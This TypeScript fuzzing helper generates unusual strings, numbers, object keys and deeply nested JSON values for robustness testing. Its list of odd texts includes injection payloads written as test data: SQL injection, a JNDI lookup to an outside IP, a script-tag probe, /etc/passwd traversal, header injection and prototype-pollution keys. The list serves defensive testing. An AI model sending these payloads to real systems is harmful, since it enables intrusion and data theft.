import type { Random } from '../random.ts'

/**
 * Texts that have broken other programs, such as control characters, lone surrogates, changes of the writing direction, and
 * code of several languages.
 */
const oddTexts = [
  '',
  ' ',
  '\0',
  'a\0b',
  '\ud800',
  '\udfff\ud800',
  '\u202e\u2066abc\u2069',
  '\ufeff',
  '\u200b\u200b\u200b',
  'Z\u0351\u036b\u0343\u036aA\u0302\u034cL\u0346G\u0310O',
  '👩‍👩‍👧‍👦'.repeat(30),
  'İıſK',
  'ﷺ'.repeat(20),
  '\r\nSet-Cookie: a=b',
  "' or 1=1 --",
  '"; drop table x; --',
  '\\',
  '$1',
  '%s%n%x',
  '{{7*7}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an attacker sends this text as it is.
  '${jndi:ldap://198.51.100.7/a}',
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  'file:///etc/passwd',
  '__proto__',
  'constructor',
  'toString',
  'null',
  'undefined',
  'true',
  'NaN',
  '0x10',
  '1e1',
  '-1',
  '00000000-0000-0000-0000-000000000000',
  'FFFFFFFF-FFFF-4FFF-BFFF-FFFFFFFFFFFF',
  '1000000000000',
  '9999-12-31',
  '0000-00-00',
  '2026-02-30',
  '+4900000000000000000',
  'a@b',
  '"very odd"@example.org',
  `${'a'.repeat(64)}@${'b'.repeat(180)}.example`,
  'ä@exämple.org',
  'W10=',
  '====',
]

const oddNumbers = [
  0,
  -0,
  -1,
  1,
  0.1,
  1e-7,
  255,
  256,
  32_767,
  32_768,
  2_147_483_647,
  2_147_483_648,
  -2_147_483_649,
  4_294_967_295,
  4_294_967_296,
  Number.MAX_SAFE_INTEGER,
  Number.MAX_SAFE_INTEGER + 1,
  -Number.MAX_SAFE_INTEGER,
  1e21,
  1e308,
  5e-324,
]

export const oddKeys = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '',
  ' ',
  '0',
  'ä',
  'role',
]

const anyCharacter = (random: Random) => String.fromCharCode(random.below(random.pick([128, 256, 0x3000, 0x10000])))

/** Returns a text with a length near a limit that is common in programs. */
function longText(random: Random): string {
  const length = random.pick([63, 64, 65, 100, 101, 127, 128, 200, 201, 255, 256, 257, 512, 513, 2_001, 9_000, 30_000])
  return random.pick(['a', 'ä', '😀', '0', ' ', 'A1']).repeat(length).slice(0, length)
}

export function oddText(random: Random): string {
  const choice = random.below(10)
  if (choice < 5) return random.pick(oddTexts)
  if (choice < 7) return longText(random)
  return Array.from({ length: 1 + random.below(40) }, () => anyCharacter(random)).join('')
}

const nested = (depth: number, isArray: boolean): unknown => {
  let value: unknown = 1
  for (let level = 0; level < depth; level += 1) value = isArray ? [value] : { a: value }
  return value
}

/** Returns any JSON value, mostly one that no schema expects. */
export function oddValue(random: Random): unknown {
  switch (random.below(9)) {
    case 0:
      return null
    case 1:
      return random.chance(0.5)
    case 2:
      return random.pick(oddNumbers)
    case 3:
      return random.below(2 ** 31) - 2 ** 30
    case 4:
      return Array.from({ length: random.pick([0, 1, 2, 60, 300]) }, () => oddText(random).slice(0, 40))
    case 5:
      return Object.fromEntries([[random.pick(oddKeys), oddText(random)]])
    case 6:
      return nested(random.pick([2, 19, 20, 21, 22, 100]), random.chance(0.5))
    default:
      return oddText(random)
  }
}

/** Encodes a text for a URL. Lone surrogates become replacement characters, because a URL cannot contain them. */
export const encodeText = (text: string): string => encodeURIComponent(Buffer.from(text).toString())
